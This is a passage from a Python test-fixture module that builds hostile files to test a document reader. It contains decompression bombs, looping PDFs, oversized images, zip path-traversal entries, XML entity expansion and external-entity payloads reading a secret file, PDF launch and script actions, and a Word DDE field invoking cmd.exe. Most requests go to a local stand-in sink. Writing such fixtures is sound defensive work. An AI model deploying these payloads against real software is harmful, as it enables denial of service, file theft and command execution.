"""Files made to break or to deceive what reads them, small and by code.

`ATTACKS` has the name of each, which is also its file's, and what should become of it. `{secret}` in the
texts here stands for a file that lies beside them, whose words must turn up nowhere.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path

import openpyxl
from pptx import Presentation
from pptx.util import Inches

from tests.ingest.formats.ole import Storage, write_ole

MIB = 1 << 20
SECRET = "xyzzyplugh"
"""What is written in the secret file."""

NOWHERE = "http://127.0.0.1:9"
"""Where a request would go that a document asks for."""

READ = "read"
REFUSED = "refused"
EITHER = "either"


@dataclass(frozen=True, slots=True)
class Attack:
    """`make` writes it, given its path; `outcome` is READ, REFUSED or EITHER."""

    make: Callable[[Path], None]
    outcome: str
    says: str = ""
    """Words that are to be read in it."""


ATTACKS: dict[str, Attack] = {}


def attack(*names: str, outcome: str = EITHER, says: str = "") -> Callable[[Maker], Maker]:
    """Registers what makes the file of each name: its bytes, from its path."""

    def register(maker: Maker) -> Maker:
        for name in names:
            assert name not in ATTACKS
            ATTACKS[name] = Attack(lambda path: _write(path, maker(path)), outcome, says)
        return maker

    return register


Maker = Callable[[Path], "bytes | str | None"]


def _write(path: Path, content: bytes | str | None) -> None:
    if isinstance(content, str):
        content = content.replace("{secret}", str(secret_beside(path))).encode()
    if content is not None:
        path.write_bytes(content)


def secret_beside(path: Path) -> Path:
    """The secret file that attacks at `path` refer to."""
    return path.parent / "secret.txt"


# What bombs are made of


def deflated(piece: bytes, times: int, *, raw: bool = False) -> bytes:
    """`piece` so many times over as zlib's stream, or as a `raw` one, packed only once."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    stream = block * times + packer.flush()
    if raw:
        return stream
    adler = 1
    for _ in range(times):
        adler = zlib.adler32(piece, adler)
    return b"\x78\x9c" + stream + adler.to_bytes(4, "big")


def unzipped(archive: bytes) -> dict[str, bytes]:
    """The parts of a zip archive by their names."""
    with zipfile.ZipFile(io.BytesIO(archive)) as source:
        return {name: source.read(name) for name in source.namelist()}


def replaced(archive: bytes, parts: Mapping[str, bytes | str]) -> bytes:
    """The archive with these parts more, or in the place of its own."""
    return zipped({**unzipped(archive), **parts})


def zipped(parts: Mapping[str, bytes | str]) -> bytes:
    """A zip archive; a part named mimetype comes first and is stored."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as target:
        for name, part in parts.items():
            target.writestr(name, part, zipfile.ZIP_STORED if name == "mimetype" else None)
    return content.getvalue()


def bombed(archive: bytes, name: str, piece: bytes, times: int, *, declared: int | None = None) -> bytes:
    """The archive with a part more, `piece` so many times; `declared` is what it says that this comes to."""
    parts = io.BytesIO()
    crc = 0
    for _ in range(times):
        crc = zlib.crc32(piece, crc)
    with (
        zipfile.ZipFile(io.BytesIO(archive)) as old,
        zipfile.ZipFile(parts, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for entry in old.namelist():
            if entry != name:
                new.writestr(entry, old.read(entry))
        # Stored here; below it is told to be packed.
        new.writestr(zipfile.ZipInfo(name), deflated(piece, times, raw=True))
    raw = bytearray(parts.getvalue())
    size = len(piece) * times if declared is None else declared
    for signature, method in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = raw.rindex(signature)
        struct.pack_into("<H", raw, at + method, 8)
        struct.pack_into("<I", raw, at + method + 6, crc)
        struct.pack_into("<I", raw, at + method + 14, size)
    return bytes(raw)


# Office files to start from

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_SHEET = "xl/worksheets/sheet1.xml"
_SLIDE = "ppt/slides/slide1.xml"
_SLIDE_RELATIONS = "ppt/slides/_rels/slide1.xml.rels"
_DOCUMENT_RELATIONS = "word/_rels/document.xml.rels"


def relations(*entries: tuple[str, str, str], external: bool = False) -> str:
    """A part with relations: id, kind and target of each."""
    mode = ' TargetMode="External"' if external else ""
    return (
        f'<Relationships xmlns="{_PACKAGE}/relationships">'
        + "".join(
            f'<Relationship Id="{id_}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'
            for id_, kind, target in entries
        )
        + "</Relationships>"
    )


def docx(body: str = "{says}", *, before: str = "", parts: Mapping[str, bytes | str] | None = None) -> bytes:
    """A Word document; `before` stands before its root element."""
    text = f"<w:p><w:r><w:t>{SAYS}</w:t></w:r></w:p>"
    return zipped(
        {
            "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml"'
            ' ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            "</Types>",
            "_rels/.rels": relations(("r1", "officeDocument", "word/document.xml")),
            "word/document.xml": f'<?xml version="1.0"?>{before}<w:document xmlns:w="{W}" xmlns:r="{_OFFICE}">'
            f"<w:body>{body.replace('{says}', text)}</w:body></w:document>",
            **(parts or {}),
        }
    )


def xlsx() -> bytes:
    """A workbook with one cell."""
    book = openpyxl.Workbook()
    book.active["A1"] = SAYS
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def pptx() -> bytes:
    """A presentation with one slide."""
    presentation = Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[6])
    slide.shapes.add_textbox(Inches(1), Inches(1), Inches(6), Inches(2)).text_frame.text = SAYS
    content = io.BytesIO()
    presentation.save(content)
    return content.getvalue()


_ODF = "urn:oasis:names:tc:opendocument:xmlns"


def opendocument(kind: str, body: str, *, before: str = "") -> bytes:
    """An OpenDocument file of the kind text, spreadsheet or presentation."""
    spaces = " ".join(
        f'xmlns:{short}="{_ODF}:{name}:1.0"'
        for short, name in (
            ("office", "office"),
            ("text", "text"),
            ("table", "table"),
            ("draw", "drawing"),
            ("svg", "svg-compatible"),
        )
    )
    return zipped(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{kind}",
            "content.xml": f'<?xml version="1.0"?>{before}<office:document-content {spaces}'
            f' xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2"><office:body><office:{kind}>'
            f"{body.replace('{says}', SAYS)}</office:{kind}></office:body></office:document-content>",
            "META-INF/manifest.xml": f'<manifest:manifest xmlns:manifest="{_ODF}:manifest:1.0"/>',
        }
    )


def odt(text: str = "{says}", *, before: str = "") -> bytes:
    return opendocument("text", f"<text:p>{text}</text:p>", before=before)


def ods(cell: str = "{says}", *, before: str = "", repeated: str = "") -> bytes:
    row = f"<table:table-row><table:table-cell {repeated}><text:p>{cell}</text:p></table:table-cell></table:table-row>"
    return opendocument("spreadsheet", f'<table:table table:name="A">{row}</table:table>', before=before)


def odp(text: str = "{says}", *, before: str = "") -> bytes:
    frame = f'<draw:frame svg:width="9cm" svg:height="4cm"><draw:text-box><text:p>{text}</text:p></draw:text-box></draw:frame>'
    return opendocument("presentation", f"<draw:page>{frame}</draw:page>", before=before)


def epub(chapter: str = "<p>{says}</p>", *, before: str = "", times: int = 1) -> bytes:
    """A book of one chapter, read `times` over."""
    refs = '<itemref idref="c"/>' * times
    return zipped(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
            '<rootfiles><rootfile full-path="b.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
            "b.opf": '<package xmlns="http://www.idpf.org/2007/opf" version="2.0"><metadata/><manifest>'
            f'<item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest><spine>{refs}</spine></package>',
            "c.xhtml": f'<?xml version="1.0"?>{before}<html xmlns="http://www.w3.org/1999/xhtml"><body>'
            f"{chapter.replace('{says}', SAYS)}</body></html>",
        }
    )


SAYS = "The ferry leaves at noon."


# PDFs


def pdf(objects: Iterable[bytes], *, root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(places) + 1,
        root,
        trailer.replace(b"{start}", b"%d" % start),
        start,
    )
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


_FONT = b"<< /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
_TEXT = b"BT /F 12 Tf 72 700 Td (%s) Tj ET" % SAYS.encode()


def one_page(
    content: bytes, *others: bytes, resources: bytes = _FONT, catalogue: bytes = b"", page: bytes = b""
) -> bytes:
    """A PDF of one page; `content` is an object, and so are `others`, from number 5."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources %s %s >>"
            % (resources, page),
            content,
            *others,
        ]
    )


@attack("zeros.pdf")
def _(_path: Path) -> bytes:
    return one_page(stream(deflated(bytes(MIB), 1024), b"/Filter /FlateDecode"))


@attack("nested-filters.pdf")
def _(_path: Path) -> bytes:
    data = zlib.compress(zlib.compress(deflated(bytes(MIB), 4096), 9), 9)
    return one_page(stream(data, b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"))


@attack("thousand-filters.pdf")
def _(_path: Path) -> bytes:
    return one_page(stream(_TEXT, b"/Filter [%s]" % (b"/ASCIIHexDecode " * 10_000)))


@attack("words.pdf")
def _(_path: Path) -> bytes:
    line = b"(word and word and word) Tj 0 -1 Td 0 1 Td " * 1000
    return one_page(stream(deflated(b"BT /F 8 Tf " + line, 3000), b"/Filter /FlateDecode"))


@attack("huge-image.pdf")
def _(_path: Path) -> bytes:
    entries = b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8"
    image = stream(deflated(bytes(MIB), 2000), entries + b" /ColorSpace /DeviceRGB /Filter /FlateDecode")
    resources = b"<< /XObject << /I 5 0 R >> >>"
    return one_page(stream(b"500 0 0 700 0 0 cm /I Do"), image, resources=resources)


@attack("image-on-a-thousand-pages.pdf")
def _(_path: Path) -> bytes:
    """A picture of 400 million pixels on each of its pages."""
    entries = b"/Type /XObject /Subtype /Image /Width 20000 /Height 20000 /BitsPerComponent 8"
    image = stream(deflated(bytes(MIB), 382), entries + b" /ColorSpace /DeviceGray /Filter /FlateDecode")
    kids = b" ".join(b"%d 0 R" % number for number in range(5, 1005))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R"
        b" /Resources << /XObject << /I 4 0 R >> >> >>"
    )
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count 1000 >>" % kids,
            stream(b"595 0 0 842 0 0 cm /I Do"),
            image,
            *[page] * 1000,
        ]
    )


@attack("claims-a-billion-pages.pdf")
def _(_path: Path) -> bytes:
    return one_page(stream(_TEXT)).replace(b"/Count 1 ", b"/Count 1000000000 ")


@attack("pages-in-a-circle.pdf")
def _(_path: Path) -> bytes:
    return one_page(stream(_TEXT)).replace(b"/Kids [3 0 R]", b"/Kids [3 0 R 2 0 R]")


@attack("pages-by-doubling.pdf")
def _(_path: Path) -> bytes:
    """Forty levels, each with the next one twice."""
    levels = [
        b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count %d >>" % (number + 1, number + 1, 2 ** (40 - number))
        for number in range(2, 40)
    ]
    page = b"<< /Type /Page /MediaBox [0 0 595 842] /Contents 41 0 R /Resources %s >>" % _FONT
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *levels, page, stream(_TEXT)])


@attack("page-that-is-its-own-parent.pdf")
def _(_path: Path) -> bytes:
    return one_page(stream(_TEXT)).replace(b"/Parent 2 0 R /MediaBox [0 0 595 842]", b"/Parent 3 0 R")


@attack("outline-in-a-circle.pdf", outcome=READ, says=SAYS)
def _(_path: Path) -> bytes:
    item = b"<< /Title (Chapter) /Parent 5 0 R /First 6 0 R /Last 7 0 R /Next %d 0 R /Dest [3 0 R /Fit] >>"
    return one_page(
        stream(_TEXT),
        b"<< /First 6 0 R /Last 7 0 R /Count 2 >>",
        item % 7,
        item % 6,
        catalogue=b"/Outlines 5 0 R",
    )


@attack("outline-without-end.pdf")
def _(_path: Path) -> bytes:
    """A million headings, one in the other."""
    items = [b"<< /Title (%d) /First %d 0 R /Dest [3 0 R /Fit] >>" % (n, n + 1) for n in range(6, 50_000)]
    return one_page(stream(_TEXT), b"<< /First 6 0 R >>", *items, b"null", catalogue=b"/Outlines 5 0 R")


@attack("xref-in-a-circle.pdf")
def _(_path: Path) -> bytes:
    return pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"],
        trailer=b"/Prev {start}",
    )


@attack("form-that-calls-itself.pdf", outcome=READ, says=SAYS)
def _(_path: Path) -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 5 0 R >> >>"
    resources = _FONT.replace(b">> >> >>", b">> >> /XObject << /X 5 0 R >> >>")
    return one_page(stream(_TEXT + b" /X Do"), stream(b"/X Do /X Do", form), resources=resources)


@attack("forms-by-doubling.pdf")
def _(_path: Path) -> bytes:
    forms = [
        stream(
            b"/X Do /X Do",
            b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>"
            % (number + 1),
        )
        for number in range(5, 45)
    ]
    last = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources %s" % _FONT
    return one_page(stream(b"/X Do"), *forms, stream(_TEXT, last), resources=b"<< /XObject << /X 5 0 R >> >>")


@attack("pattern-in-itself.pdf")
def _(_path: Path) -> bytes:
    pattern = (
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 0.001 /YStep 0.001"
        b" /Resources << /Pattern << /P 5 0 R >> >>"
    )
    paint = b"/Pattern cs /P scn 0 0 500 700 re f"
    return one_page(
        stream(_TEXT + paint),
        stream(paint, pattern),
        resources=_FONT.replace(b">> >> >>", b">> >> /Pattern << /P 5 0 R >> >>"),
    )


@attack("glyph-in-itself.pdf")
def _(_path: Path) -> bytes:
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97"
        b" /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >>"
        b" /Resources << /Font << /F 5 0 R >> >> >>"
    )
    glyph = stream(b"9 0 d0 BT /F 1 Tf (aaaa) Tj ET")
    return one_page(stream(b"BT /F 9 Tf (aaaa) Tj ET"), font, glyph, resources=b"<< /Font << /F 5 0 R >> >>")


@attack("length-is-itself.pdf")
def _(_path: Path) -> bytes:
    return one_page(b"<< /Length 4 0 R >>\nstream\n%s\nendstream" % _TEXT)


@attack("million-brackets.pdf")
def _(_path: Path) -> bytes:
    return one_page(stream(_TEXT), b"[" * 1_000_000, page=b"/Annots 5 0 R")


@attack("brackets-on-the-page.pdf")
def _(_path: Path) -> bytes:
    return one_page(stream(deflated(b"[<<[<<q ( " * 10_000, 100), b"/Filter /FlateDecode"))


@attack("page-without-edges.pdf")
def _(_path: Path) -> bytes:
    return one_page(stream(_TEXT)).replace(b"[0 0 595 842]", b"[-1e30 -1e30 1e30 1e30]")


@attack("annotations-in-a-circle.pdf", outcome=READ, says=SAYS)
def _(_path: Path) -> bytes:
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /Kids [5 0 R] /Parent 5 0 R >>"
    return one_page(
        stream(_TEXT),
        field,
        page=b"/Annots [5 0 R 5 0 R]",
        catalogue=b"/AcroForm << /Fields [5 0 R] /XFA 5 0 R >>",
    )


@attack("does-things.pdf", outcome=READ, says=SAYS)
def _(path: Path) -> bytes:
    """Scripts, programs to start, pages to fetch and streams that lie in other files."""
    secret = str(secret_beside(path)).encode()
    actions = (
        b"/OpenAction << /S /Launch /F (%s) /Next << /S /JavaScript /JS (app.launchURL('%s');) /Next"
        b" << /S /SubmitForm /F (%s) /Next << /S /GoToR /F (%s) /D [0 /Fit] >> >> >> >>"
    ) % (secret, NOWHERE.encode(), NOWHERE.encode(), secret)
    outside = (
        b"<< /Length 0 /F (%s) /Type /XObject /Subtype /Form /BBox [0 0 595 842] >>\nstream\n\nendstream"
    )
    return one_page(
        stream(_TEXT + b" /X Do"),
        outside % secret,
        resources=_FONT.replace(b">> >> >>", b">> >> /XObject << /X 5 0 R >> >>"),
        catalogue=actions,
    )


# Pictures


def png(width: int, height: int, data: bytes, *, more: bytes = b"", colour: int = 2) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + more + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@attack("huge.png", outcome=REFUSED)
def _(_path: Path) -> bytes:
    return png(30_000, 30_000, deflated(bytes(MIB), 2575))


@attack("just-small-enough.png")
def _(_path: Path) -> bytes:
    return png(99_000, 1000, deflated(bytes(MIB), 284))


@attack("text-chunk.png")
def _(_path: Path) -> bytes:
    text = b"Comment\0\0" + deflated(bytes(MIB), 1024)
    return png(
        30, 30, zlib.compress(bytes(91 * 30)), more=chunk(b"zTXt", text) + chunk(b"iCCP", b"p\0\0" + text[9:])
    )


@attack("thousand-huge-pages.tif")
def _(_path: Path) -> bytes:
    return tiff(1000, side=30_000)


@attack("thousand-large-pages.tif")
def _(_path: Path) -> bytes:
    return tiff(1000, side=9_000)


@attack("pages-in-a-circle.tif")
def _(_path: Path) -> bytes:
    return tiff(3, side=200, circle=True)


def tiff(pages: int, *, side: int, circle: bool = False) -> bytes:
    """Square pages in black and white, all with the same strip of data."""
    data = deflated(bytes(MIB), -(-side * -(-side // 8) // MIB))
    strip = 8
    first = strip + len(data) + len(data) % 2
    out = bytearray(struct.pack("<2sHI", b"II", 42, first) + data)
    out += bytes(first - len(out))
    tags = (
        (256, side),
        (257, side),
        (258, 1),
        (259, 8),
        (262, 1),
        (273, strip),
        (278, side),
        (279, len(data)),
    )
    size = 2 + 12 * len(tags) + 4
    for number in range(pages):
        following = first + (number + 1) * size
        if number == pages - 1:
            following = first if circle else 0
        out += struct.pack("<H", len(tags))
        out += b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
        out += struct.pack("<I", following)
    return bytes(out)


@attack("huge.gif")
def _(_path: Path) -> bytes:
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0)
        + bytes(6)
        + b","
        + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0)
        + b"\x02\x02D\x01\0;"
    )


@attack("huge.bmp")
def _(_path: Path) -> bytes:
    return b"BM" + struct.pack("<IIIIiiHHIIiiII", 54, 0, 54, 40, 2**31 - 1, -(2**31), 1, 24, 0, 0, 0, 0, 0, 0)


@attack("claims-to-be-a-picture.jpg", outcome=REFUSED)
def _(_path: Path) -> bytes:
    return b"\xff\xd8\xff\xe0" + bytes(2000)


# Archives


@attack("bomb.docx", outcome=REFUSED)
def _(_path: Path) -> bytes:
    return bombed(docx(), "word/document.xml", b" " * MIB, 1024)


@attack("bomb.xlsx", outcome=REFUSED)
def _(_path: Path) -> bytes:
    return bombed(xlsx(), "xl/sharedStrings.xml", b" " * MIB, 1024)


@attack("bomb.pptx", outcome=REFUSED)
def _(_path: Path) -> bytes:
    return bombed(pptx(), "ppt/slides/slide1.xml", b" " * MIB, 1024)


@attack("bomb.odt", outcome=REFUSED)
def _(_path: Path) -> bytes:
    return bombed(odt(), "content.xml", b" " * MIB, 1024)


@attack("bomb.epub", outcome=REFUSED)
def _(_path: Path) -> bytes:
    return bombed(epub(), "c.xhtml", b" " * MIB, 1024)


@attack("lying-bomb.docx")
def _(_path: Path) -> bytes:
    return bombed(docx(), "word/document.xml", b" " * MIB, 1024, declared=500)


@attack("lying-bomb.pptx")
def _(_path: Path) -> bytes:
    return bombed(pptx(), "ppt/slides/slide1.xml", b" " * MIB, 1024, declared=500)


@attack("lying-bomb.xlsx")
def _(_path: Path) -> bytes:
    return bombed(xlsx(), "xl/worksheets/sheet1.xml", b"<row></row>" * 100_000, 1024, declared=500)


@attack("lying-bomb.odt")
def _(_path: Path) -> bytes:
    return bombed(odt(), "content.xml", b" " * MIB, 1024, declared=500)


@attack("lying-bomb.epub")
def _(_path: Path) -> bytes:
    return bombed(epub(), "c.xhtml", b"<p>a</p>" * (MIB // 8), 1024, declared=500)


@attack("bomb-beside-random-bytes.docx")
def _(_path: Path) -> bytes:
    """Two hundred times as large unpacked, and no more: most of it is what cannot be packed."""
    noise = bytearray(zlib.compress(bytes(100), 9) * 60_000)
    body = b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 30_000
    head = f'<w:document xmlns:w="{W}"><w:body>'.encode()
    content = io.BytesIO(
        bombed(docx(parts={"word/noise.bin": bytes(noise)}), "word/document.xml", head + body, 500)
    )
    with zipfile.ZipFile(content, "a", zipfile.ZIP_STORED) as target:
        target.writestr("word/more.bin", bytes(noise))
    return content.getvalue()


@attack("overlapping.docx", outcome=REFUSED)
def _(_path: Path) -> bytes:
    """Ten thousand parts that are all the same one."""
    one = bombed(zipped({}), "word/document.xml", b" " * MIB, 100)
    start = one.rindex(b"PK\x01\x02")
    end = one.rindex(b"PK\x05\x06")
    entry = one[start:end]
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 10_000, 10_000, len(entry) * 10_000, start, 0)
    return one[:start] + entry * 10_000 + tail


@attack("a-million-parts.docx", outcome=REFUSED)
def _(_path: Path) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as target:
        for number in range(60_000):
            target.writestr(zipfile.ZipInfo(f"word/{number}.xml"), b"")
    return content.getvalue()


@attack(
    "up-and-out.docx",
    "up-and-out.odt",
    "up-and-out.epub",
    "up-and-out.pptx",
    "up-and-out.xlsx",
    outcome=REFUSED,
)
def _(path: Path) -> bytes:
    made = {".docx": docx, ".odt": odt, ".epub": epub, ".pptx": pptx, ".xlsx": xlsx}[path.suffix]()
    content = io.BytesIO(made)
    with zipfile.ZipFile(content, "a") as target:
        target.writestr("../../../../../../../../tmp/carrel-was-here.txt", "escaped")
        target.writestr(str(path.parent / "escaped.txt"), "escaped")
        target.writestr("..\\escaped.txt", "escaped")
    return content.getvalue()


# Entities in XML

LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY l0 "ha">'
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)
QUADRATIC = f'<!DOCTYPE q [<!ENTITY l11 "{"ha " * 50_000}">]>'
OUTSIDE = (
    '<!DOCTYPE x [<!ENTITY l11 SYSTEM "file://{secret}"><!ENTITY % other SYSTEM "'
    + NOWHERE
    + '/x.dtd"> %other; <!ENTITY web SYSTEM "'
    + NOWHERE
    + '/x">]>'
)
_SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def with_entity(kind: str, before: str, entity: str) -> bytes | str:
    """A file of a kind with `before` before its root element and `entity` in its text."""
    match kind:
        case "docx":
            return docx(f"<w:p><w:r><w:t>{SAYS} {entity}</w:t></w:r></w:p>", before=before)
        case "core.docx":
            core = f'<?xml version="1.0"?>{before}<c xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{entity}</dc:title></c>'
            return docx(parts={"docProps/core.xml": core, "word/header1.xml": core})
        case "odt":
            return odt(f"{SAYS} {entity}", before=before)
        case "ods":
            return ods(f"{SAYS} {entity}", before=before)
        case "odp":
            return odp(f"{SAYS} {entity}", before=before)
        case "epub":
            return epub(f"<p>{SAYS} {entity}</p>", before=before)
        case "svg":
            return f'<?xml version="1.0"?>{before}<svg {_SVG} width="500" height="90"><text x="9" y="50">{SAYS} {entity}</text></svg>'
        case "html":
            return f"{before.replace('<!DOCTYPE x', '<!DOCTYPE html')}<html><body><p>{SAYS} {entity}</p></body></html>"
        case "fb2":
            return (
                f'<?xml version="1.0"?>{before}<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0">'
                f"<body><section><p>{SAYS} {entity}</p></section></body></FictionBook>"
            )
        case "xlsx" | "pptx":
            made, part = (xlsx(), _SHEET) if kind == "xlsx" else (pptx(), _SLIDE)
            text = unzipped(made)[part].decode().rpartition("?>")[2]
            text = text.replace(SAYS, f"{SAYS} {entity}")
            return replaced(made, {part: f'<?xml version="1.0"?>{before}{text}'})
    raise ValueError(kind)


_KINDS = ("docx", "core.docx", "xlsx", "pptx", "odt", "ods", "odp", "epub", "svg", "html", "fb2")
for _kind in _KINDS:
    for _title, _before, _entity in (
        ("laughs", LAUGHS, "&l11;"),
        ("quadratic", QUADRATIC, "&l11;" * 10_000),
        ("outside", OUTSIDE, "&l11; &web;"),
    ):

        def _made(path: Path, kind: str = _kind, before: str = _before, entity: str = _entity) -> bytes | str:
            return with_entity(kind, before.replace("{secret}", str(secret_beside(path))), entity)

        attack(f"{_title}.{_kind}")(_made)


# What refers to other files


@attack("refers.html", outcome=READ, says=SAYS)
def _(_path: Path) -> str:
    return f"""<html><head><base href="file:///"><link rel="stylesheet" href="file://{{secret}}">
    <style>@import "file://{{secret}}"; body {{ background: url({NOWHERE}/b.png) }}
    @font-face {{ font-family: x; src: url({NOWHERE}/f.woff) }}</style>
    <meta http-equiv="refresh" content="0;url={NOWHERE}"><script src="{NOWHERE}/s.js"></script></head>
    <body background="{NOWHERE}/c.png"><p style="background: url('file://{{secret}}')">{SAYS}</p>
    <iframe src="file://{{secret}}"></iframe><object data="file://{{secret}}"></object>
    <embed src="{NOWHERE}/e"><img src="file://{{secret}}"><img src="{{secret}}"><img src="{NOWHERE}/i.png">
    <img srcset="{NOWHERE}/i2.png 2x" src="//127.0.0.1:9/j.png"><video poster="{NOWHERE}/p.png"></video>
    <table background="{NOWHERE}/t.png"><tr><td>x</td></tr></table><input type="image" src="{NOWHERE}/n.png">
    <svg><image href="{NOWHERE}/v.png"/><use href="file://{{secret}}#a"/></svg></body></html>"""


@attack("refers.svg", outcome=READ, says=SAYS)
def _(_path: Path) -> str:
    return f"""<?xml-stylesheet href="{NOWHERE}/s.css" type="text/css"?><svg {_SVG} width="500" height="300">
    <style>@import url("{NOWHERE}/s.css");</style><script xlink:href="{NOWHERE}/s.js"/>
    <text x="9" y="50">{SAYS}</text><image xlink:href="file://{{secret}}" width="9" height="9"/>
    <image href="{NOWHERE}/i.png" width="9" height="9"/><use xlink:href="file://{{secret}}#a"/>
    <foreignObject><iframe src="file://{{secret}}"/></foreignObject></svg>"""


@attack("refers.epub", outcome=READ, says=SAYS)
def _(path: Path) -> bytes:
    secret = secret_beside(path)
    return epub(
        f'<p>{{says}}</p><img src="file://{secret}"/><img src="../../../../../../..{secret}"/>'
        f'<img src="{NOWHERE}/i.png"/><object data="file://{secret}"/>'
        f'<link rel="stylesheet" href="{NOWHERE}/s.css"/><iframe src="file://{secret}"/>'
    )


@attack("refers.docx", outcome=READ, says=SAYS)
def _(path: Path) -> bytes:
    secret = secret_beside(path)
    fields = (
        f"INCLUDETEXT &quot;{secret}&quot;",
        f"INCLUDEPICTURE &quot;{NOWHERE}/i.png&quot; \\d",
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;",
    )
    body = "".join(f'<w:p><w:fldSimple w:instr=" {field} "/></w:p>' for field in fields)
    targets = relations(
        ("r1", "aFChunk", f"file://{secret}"),
        ("r2", "image", f"{NOWHERE}/i.png"),
        ("r3", "image", f"file://{secret}"),
        ("r4", "attachedTemplate", f"{NOWHERE}/evil.dotm"),
        ("r5", "header", f"file://{secret}"),
        external=True,
    )
    body += '<w:altChunk r:id="r1"/>' + drawn('r:link="r2" r:embed="r3"')
    return docx("{says}" + body, parts={_DOCUMENT_RELATIONS: targets})


@attack("refers.pptx", outcome=READ, says=SAYS)
def _(path: Path) -> bytes:
    made = pptx()
    parts = unzipped(made)
    related = "".join(
        f'<Relationship Id="x{number}" Type="{_OFFICE}/image" Target="{target}" TargetMode="External"/>'
        for number, target in enumerate((f"file://{secret_beside(path)}", f"{NOWHERE}/i.png"))
    )
    pictures = "".join(
        f'<p:pic><p:nvPicPr><p:cNvPr id="{number}" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
        f'<a:blip r:{how}="x{number}" xmlns:r="{_OFFICE}"/></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/>'
        '<a:ext cx="900000" cy="900000"/></a:xfrm></p:spPr></p:pic>'
        for number in (0, 1)
        for how in ("link", "embed")
    )
    return replaced(
        made,
        {
            _SLIDE_RELATIONS: parts[_SLIDE_RELATIONS].replace(b"</Rel", related.encode() + b"</Rel"),
